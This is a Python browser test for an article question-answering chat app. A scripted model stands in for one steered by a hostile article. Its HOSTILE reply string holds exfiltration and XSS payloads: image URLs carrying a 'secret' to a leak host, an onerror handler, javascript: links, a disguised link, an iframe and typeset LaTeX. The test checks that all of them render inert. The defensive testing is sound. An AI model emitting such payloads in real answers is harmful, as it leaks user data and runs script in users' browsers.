"""What a hostile article can make the model write, shown in the real chat window in Chromium.

An article can steer the model, and the chat shows the model's text. Here a scripted model
(the only stand-in: everything else is the product's own path, from retrieval over a real
index through ``qa.faces.render`` into a Gradio ``Chatbot``) answers with the classic forms:
a markdown image whose URL carries a "secret", a raw ``<img onerror>``, ``javascript:`` links
in markdown and in HTML, a markdown link hiding its URL behind other words, an iframe, and
LaTeX that Gradio would typeset. A real HTTP server on loopback plays the host they point
at; it must receive no request, and no ``javascript:`` link, ``on*=`` attribute or typeset
formula may reach the page, while the answer is streamed nor once it is final.
"""

from __future__ import annotations

import re
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import SEED, free_port
from pages import CHROMIUM, CHROMIUM_ARGS, Site

from qa.config import Settings
from qa.faces.server import launch
from qa.faces.ui import build_app
from qa.service import QAService

QUESTION = "Where did Stoltenberg speak to reporters on Friday?"
# {n}: the number of the snippet holding Ramstein; {leak}: the hostile host's base URL.
HOSTILE = (
    "Stoltenberg spoke to reporters at Ramstein U.S. Air Base in Germany on Friday [{n}]. "
    "![chart]({leak}/image.png?q=secret) "
    '<img src="{leak}/raw.png?q=secret" onerror="window.__qaPwned = 1"> '
    "[click here](javascript:window.__qaPwned=2) "
    '<a href="javascript:window.__qaPwned=3" onclick="window.__qaPwned=4">open</a> '
    "[the official source]({leak}/hidden?q=secret) "
    '<iframe src="{leak}/frame?q=secret"></iframe> '
    "$$\\Huge\\text{{OFFICIAL}}$$\n\n"
    "More at {leak}/plain?q=1."
)


class HostileLLM:
    """Stands in for a model steered by an article: streams ``HOSTILE`` (a few characters at a
    time, slowly enough for the browser to show the text while it is written), citing the
    snippet that holds Ramstein so the answer passes the product's checks."""

    def __init__(self, leak: str) -> None:
        self.leak = leak

    def stream(self, messages: list[dict[str, str]], *, max_tokens: int) -> Iterator[str]:
        prompt = messages[-1]["content"]
        cited = re.search(r"\[(\d+)\][^\[]*Ramstein", prompt)
        reply = HOSTILE.format(n=cited.group(1) if cited else 1, leak=self.leak)
        for i in range(0, len(reply), 6):
            time.sleep(0.03)
            yield reply[i:i + 6]

    def complete(self, messages: list[dict[str, str]], *, max_tokens: int,
                 stop: list[str] | None = None) -> str:
        return "".join(self.stream(messages, max_tokens=max_tokens))


@pytest.fixture(scope="module")
def leak_host() -> Iterator[Site]:
    """The host the hostile answer points at: a real HTTP server on its own loopback port."""
    with Site() as site:
        yield site


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory, embedder: Any,
                leak_host: Site) -> Iterator[str]:
    """The chat window over an index of the seed article, its model the ``HostileLLM``."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "articles").mkdir()
    shutil.copy(SEED, root / "articles" / SEED.name)
    settings = Settings.load(index_dir=root / "index", articles_root=root, progress=False,
                             ui_host="127.0.0.1", ui_port=free_port())
    service = QAService(settings, llm=HostileLLM(leak_host.base), embedder=embedder)  # type: ignore[arg-type]
    service.ingest(root / "articles")
    app = build_app(service, settings)
    url = launch(app, settings)
    try:
        yield url
    finally:
        app.close()
        service.close()


# Run in the page on every change of the chat: anything that would let the answer act
# (event-handler attributes, javascript: links, elements loading from the hostile host) is
# recorded, so a form shown only while the answer streams is caught too.
WATCH = """(leak) => {
  window.__qa = {bad: [], streamedAsText: false};
  const scan = () => {
    const chat = document.querySelector('#qa-chat');
    if (!chat) return;
    for (const el of chat.querySelectorAll('*')) {
      for (const name of el.getAttributeNames())
        if (name.toLowerCase().startsWith('on')) window.__qa.bad.push(`${el.tagName} ${name}`);
      const href = el.getAttribute('href') || el.getAttribute('xlink:href') || '';
      if (/^\\s*javascript:/i.test(href)) window.__qa.bad.push(`${el.tagName} href=${href}`);
      const src = el.getAttribute('src') || el.getAttribute('srcset') || '';
      if (src.includes(leak)) window.__qa.bad.push(`${el.tagName} src=${src}`);
    }
    if (chat.querySelector('.katex')) window.__qa.bad.push('a typeset formula');
    const bot = chat.querySelector('[data-testid="bot"]');
    const head = document.querySelector('#qa-sources .qa-panel-head');
    if (bot && bot.innerText.includes('![chart](') &&
        !(head && head.innerText.startsWith('Sources for')))
      window.__qa.streamedAsText = true;
  };
  new MutationObserver(scan).observe(document.body,
    {subtree: true, childList: true, attributes: true, characterData: true});
}"""


def test_a_hostile_answer_is_shown_as_text_and_reaches_nothing(
    hostile_app: str, leak_host: Site, tmp_path: Path
) -> None:
    if not Path(CHROMIUM).exists():
        pytest.fail("chromium is missing: apt-get install -y chromium (see `make browser`)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 900})
            page.goto(hostile_app)
            box = page.locator("#qa-question textarea")
            box.wait_for(timeout=60_000)
            page.evaluate(WATCH, leak_host.base)
            box.fill(QUESTION)
            box.press("Enter")
            page.locator("#qa-sources .qa-panel-head", has_text="Sources for").wait_for(
                timeout=60_000)
            page.wait_for_timeout(1500)  # time for any image or frame to be fetched
            bot = page.locator('[data-testid="bot"]').last
            shown = bot.inner_text()
            watched = page.evaluate("window.__qa")
            pwned = page.evaluate("window.__qaPwned")
            typeset = bot.locator(".katex").count()
            links = bot.locator("a").evaluate_all(
                "els => els.map(a => [a.getAttribute('href'), a.innerText, a.className])")
            page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)

            # the page can reach the hostile host: its silence above is the rendering's doing
            requested = list(leak_host.paths())
            page.evaluate("url => fetch(url, {mode: 'no-cors'})", f"{leak_host.base}/probe")
            deadline = time.monotonic() + 10
            while "/probe" not in leak_host.paths() and time.monotonic() < deadline:
                time.sleep(0.1)
        finally:
            browser.close()

    print(f"\nshown: {shown!r}\nlinks: {links}")
    assert requested == [], f"the answer made the browser request {requested}"
    assert "/probe" in leak_host.paths(), "the browser could not reach the leak host at all"
    assert watched["bad"] == [], watched["bad"]
    assert pwned is None
    assert typeset == 0, "the model's $$…$$ was typeset"
    # what the model wrote is there to read, as text
    for form in ("![chart](", "<img src=", "[click here](javascript:", "<iframe src=",
                 "$$\\Huge"):
        assert form in shown, (form, shown)
    # the product's own markup still works: [1] links to its source card
    assert ["#src-1-1", "[1]", "qa-cite"] in links, links
    # any other link is a plain http one showing where it goes (a URL the model wrote)
    others = [(href, text) for href, text, cls in links if cls != "qa-cite"]
    assert (f"{leak_host.base}/plain?q=1",) * 2 in others, others
    assert all(href == text and href.startswith("http://") for href, text in others), others
    assert watched["streamedAsText"], "the streamed text was never seen as text"


def test_the_chat_saved_as_markdown_and_json_holds_the_sources_and_no_markup(
    hostile_app: str, tmp_path: Path
) -> None:
    if not Path(CHROMIUM).exists():
        pytest.fail("chromium is missing: apt-get install -y chromium (see `make browser`)")
    import json

    from markdown_it import MarkdownIt
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 900})
            page.goto(hostile_app)
            assert not page.locator("#qa-save-md").is_visible()  # nothing to save yet
            box = page.locator("#qa-question textarea")
            box.wait_for(timeout=60_000)
            box.fill(QUESTION)
            box.press("Enter")
            save_md = page.locator("#qa-save-md")
            save_md.wait_for(state="visible", timeout=60_000)
            saved = {}
            for name, button in (("md", save_md), ("json", page.locator("#qa-save-json"))):
                with page.expect_download(timeout=30_000) as download:
                    button.click()
                saved[name] = Path(download.value.path()).read_text(encoding="utf-8")
        finally:
            browser.close()

    turns = json.loads(saved["json"])["turns"]
    assert [t["question"] for t in turns] == [QUESTION]
    answer = turns[0]["answer"]
    assert not answer["refused"] and answer["citations"]
    cited = answer["citations"][0]
    md = saved["md"]
    assert md.startswith("# Article Q&A: 1 question, exported ")
    html = MarkdownIt("commonmark", {"html": True}).render(md)
    # the source as written: its title, outlet and date, and its quote in a block quote
    plain = re.sub(r"\\(.)", r"\1", md)
    for field in (cited["title"], cited["source"], cited["published_at"][:10],
                  " ".join(cited["quote"].split())):
        assert field in plain, field
    assert "<blockquote>" in html and "Ramstein" in cited["quote"]
    # the hostile forms are text in the file too: no image, raw HTML or javascript: link
    assert "<img" not in html and "<iframe" not in html and "javascript:" not in \
        " ".join(re.findall(r'href="([^"]*)"', html))
    assert "![chart](" in plain and "![chart](" not in md  # there to read, escaped
